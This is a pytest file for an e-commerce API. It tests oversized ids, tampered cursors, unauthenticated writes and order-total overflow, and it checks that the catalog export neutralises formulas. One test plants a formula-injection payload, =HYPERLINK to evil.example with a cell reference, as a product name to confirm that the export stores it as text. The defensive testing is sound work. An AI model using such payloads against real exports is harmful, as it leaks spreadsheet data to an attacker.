@pytest.mark.parametrize("number", [INT4_OVERFLOW, HUGE])
@pytest.mark.parametrize("path", ["/products/{n}", "/skus/{n}", "/suppliers/{n}", "/orders/{n}", "/addresses/{n}",
                                  "/fulfillments/{n}", "/support-pairs/{n}", "/suppliers/{n}/members"])
def test_an_oversized_id_in_the_path_is_404_not_500(app, path, number):
    """An id in the path beyond the integer columns (>= 2**31, past PostgreSQL's INTEGER; >= 2**63, past SQLite's
    64 bits) answers a 404 problem, as any unknown id does: never a 500 internal_error with a logged stack trace
    (log flooding, 5xx alerts) that GET /api/v1/products/2147483648 alone would otherwise set off."""
    response = api_as(app, make_user()).get(f"{API}{path.format(n=number)}")
    assert_problem(response, 404)


@pytest.mark.parametrize("number", [INT4_OVERFLOW, HUGE])
@pytest.mark.parametrize("path,field", [("/cart/lines", "sku_id"), ("/checkout", "address_id")])
def test_an_oversized_id_in_a_body_is_4xx_not_500(app, path, field, number):
    """An id in a JSON body beyond the integer columns (a cart line's sku_id, a checkout's address_id) is refused
    with a 4xx problem before it reaches the database, never a 500."""
    body = {"sku_id": number, "quantity": 1} if field == "sku_id" else {"address_id": number}
    response = api_as(app, make_user()).post(f"{API}{path}", json=body)
    assert 400 <= response.status_code < 500, response.get_data(as_text=True)
    assert response.mimetype == "application/problem+json"


@pytest.mark.parametrize("number", [INT4_OVERFLOW, HUGE])
def test_an_oversized_id_in_a_query_or_cursor_is_4xx_not_500(app, number):
    """Ids beyond the integer columns in ?address_id=, ?supplier_id=, ?category= and in a tampered keyset cursor
    never answer a 5xx."""
    client = api_as(app, make_user())
    for path in (f"/cart?address_id={number}", f"/products?supplier_id={number}", f"/products?category={number}"):
        response = client.get(f"{API}{path}")
        assert response.status_code < 500, (path, response.get_data(as_text=True))
    cursor = base64.urlsafe_b64encode(json.dumps([number]).encode()).decode().rstrip("=")
    response = client.get(f"{API}/orders?cursor={cursor}")
    assert response.status_code < 500, response.get_data(as_text=True)


def test_an_order_total_beyond_the_integer_columns_is_refused_not_500(app, stripe_server):
    """A checkout worth more than 2**31-1 fen (22 units at the top price MAX_PRICE_FEN, each price and quantity
    within its own cap) is refused with a 4xx problem and places no order, on SQLite as on PostgreSQL: never a
    500 from an integer column overflowing, never an order that no single Stripe charge could cover."""
    from tests.orders.factories import make_address

    owner = make_user()
    supplier = make_supplier(owner)
    product = make_product(supplier, skus=[{"spec": "整车", "unit": "车", "weight_g": 1000, "price_fen": 100_000_000,
                                            "stock": 100}])
    buyer = make_user()
    address = make_address(buyer)
    response = api_as(app, buyer).post(f"{API}/checkout", json={
        "address_id": address.id, "items": [{"sku_id": sku_of(product.id), "quantity": 22}]})
    assert 400 <= response.status_code < 500, response.get_data(as_text=True)
    assert response.mimetype == "application/problem+json"
    assert db.session.scalar(select(func.count()).select_from(Order)) == 0


def test_tampered_cursors_are_422(app):
    client = api_as(app, make_user())
    for value in (["x"], [1.5], [True], [None], {"a": 1}, [1, 2], "not base64 !!"):
        cursor = value if isinstance(value, str) else \
            base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")
        assert_problem(client.get(f"{API}/orders?cursor={cursor}"), 422, "invalid_cursor")


def test_unauthenticated_writes_are_401_problems_everywhere(app):
    anonymous = ApiClient(app.test_client())
    for method, path in [("POST", "/addresses"), ("POST", "/cart/lines"), ("POST", "/checkout"),
                         ("POST", "/orders/1/cancel"), ("POST", "/orders/1/refunds"), ("POST", "/refunds/1/decision"),
                         ("POST", "/fulfillments/1/ship"), ("POST", "/fulfillments/1/deliver"),
                         ("POST", "/products"), ("PATCH", "/products/1"), ("PATCH", "/skus/1"),
                         ("POST", "/skus/1/stock-adjustments"), ("POST", "/suppliers"),
                         ("POST", "/suppliers/1/members"), ("DELETE", "/suppliers/1/members/1"),
                         ("PUT", "/suppliers/1/shipping-rule"), ("POST", "/suppliers/1/review"),
                         ("DELETE", "/auth/tokens/1"), ("POST", "/orders/1/operator-refunds")]:
        response = anonymous.open(method, f"{API}{path}", json={})
        assert response.status_code in (401, 422), (method, path, response.status_code)
        assert response.mimetype == "application/problem+json"
    for method, path in [("GET", "/orders"), ("GET", "/orders/1"), ("GET", "/fulfillments"), ("GET", "/refunds"),
                         ("GET", "/cart"), ("GET", "/addresses"), ("GET", "/notifications"),
                         ("GET", "/skus/1/stock-movements"), ("GET", "/suppliers/1/products")]:
        assert_problem(anonymous.open(method, f"{API}{path}"), 401)


# =====================================================================================================================
# Catalog export: supplier-entered text must not become spreadsheet formulas
# =====================================================================================================================


def test_catalog_export_writes_product_text_as_text_not_as_formulas(app, two_suppliers):
    """Product text that starts with "=" (a staff member's =HYPERLINK(...) name, an "=1+1" storage note) is
    exported as text: the owner's spreadsheet holds no formula cell that would run when the export is opened."""
    from openpyxl import load_workbook

    staff = api_as(app, two_suppliers["staff_a"])
    evil = '=HYPERLINK("https://evil.example/?x="&A2,"点击查看")'
    response = staff.patch(f"{API}/products/{two_suppliers['product_a']}", json={"name": evil, "storage": "=1+1"})
    assert response.status_code == 200, response.json
    export = api_as(app, two_suppliers["owner_a"]).get(f"{API}/suppliers/{two_suppliers['a']}/catalog/export")
    assert export.status_code == 200
    sheet = load_workbook(io.BytesIO(export.data))["catalog"]
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == [], f"formula cells in the export: {formulas}"
